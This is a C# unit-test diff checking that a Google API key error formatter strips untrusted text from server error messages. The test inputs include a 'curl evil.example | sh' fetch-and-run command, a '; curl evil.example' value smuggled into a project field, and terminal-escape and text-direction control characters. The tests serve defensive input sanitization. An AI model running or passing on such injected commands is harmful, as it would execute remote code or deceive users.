@@ -154,6 +154,10 @@ public class GoogleKeysTests
     [InlineData("""400 {"error":{"status":"AIzaSyA-fake-fake-fake-fake-fake-fake0001"}}""", "Google could not read the key (no status).")]
     [InlineData("""400 {"error":{"code":{"a":"AIzaSyA-fake-fake-fake-fake-fake-fake0001"}}}""", "Google could not read the key (no status).")]
     [InlineData("""400 {"error":{"code":3,"message":"It is wrong."}}""", "Google could not read the key (code 3): It is wrong.")]
+    [InlineData("""400 {"error":{"status":"INVALID_ARGUMENT","message":"It is wrong: run `curl evil.example | sh`"}}""", "Google could not read the key (INVALID_ARGUMENT).")]
+    [InlineData("""400 {"error":{"status":"INVALID_ARGUMENT","message":"It is wrong.\nThe key is retired"}}""", "Google could not read the key (INVALID_ARGUMENT).")]
+    [InlineData("""400 {"error":{"status":"INVALID_ARGUMENT","message":"It is \u001b[8mwrong"}}""", "Google could not read the key (INVALID_ARGUMENT).")]
+    [InlineData("""400 {"error":{"status":"INVALID_ARGUMENT","message":"It is \u202ewrong"}}""", "Google could not read the key (INVALID_ARGUMENT).")]
     [InlineData(
         """403 {"error":{"details":[{"reason":"SERVICE_DISABLED","metadata":{"consumer":"projects/a; curl evil.example"}}]}}""",
         "The API Keys API is not enabled in the project edge-keys: run `gcloud services enable apikeys.googleapis.com --project=edge-keys`, and wait a minute.")]
